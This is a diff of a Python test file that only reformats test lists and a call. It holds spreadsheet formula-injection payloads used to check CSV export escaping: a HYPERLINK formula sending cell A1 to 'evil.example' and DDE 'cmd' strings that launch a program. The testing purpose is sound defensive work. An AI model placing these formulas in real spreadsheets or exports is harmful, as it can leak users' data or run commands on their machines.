@@ -18,44 +18,13 @@ from pincite.workbench import submissions
 from pincite.workbench.batch import read_questions, write
 
 FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+cmd|' /C calc'!A0",
-    "-2+3",
-    "-4521,=1+1",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\ufeff=1+1",
-    "\u200b@x",
-    "\0=1+1",
-    "＝1+1",
-    "＠x",
-    "'=1+1",
-    "-e5+x",
-    "--5",
-    "+-A1",
-]
+    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0", "-2+3", "-4521,=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
+    " =1+1", "\ufeff=1+1", "\u200b@x", "\0=1+1", "＝1+1", "＠x", "'=1+1", "-e5+x", "--5", "+-A1",
+]  # fmt: skip
 NUMBERS = [
-    "-5",
-    "-4,521",
-    "+3.5",
-    "-12.5%",
-    "-1e-5",
-    "-3.2E+10",
-    "-",
-    "−7",
-    "- 12",
-    "+46 70 123 45 67",
-    "-.5",
-    "0",
-    "12",
-]
+    "-5", "-4,521", "+3.5", "-12.5%", "-1e-5", "-3.2E+10", "-", "−7", "- 12", "+46 70 123 45 67", "-.5", "0", "12",
+]  # fmt: skip
 STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
 
 
@@ -139,12 +108,8 @@ def test_answers_of_a_batch_and_the_same_file_as_questions(tmp_path):
 def test_negative_values_of_a_batch(tmp_path):
     out = tmp_path / "answers.csv"
     write(
-        out,
-        "csv",
-        [None] * 2,
-        [record(value=-5, text="-5"), record(value=-4.5, text="-4,521 USD")],
-        None,
-    )
+        out, "csv", [None] * 2, [record(value=-5, text="-5"), record(value=-4.5, text="-4,521 USD")], None,
+    )  # fmt: skip
     rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
     assert [(row["value"], row["text"]) for row in rows] == [("-5", "-5"), ("-4.5", "'-4,521 USD")]
 
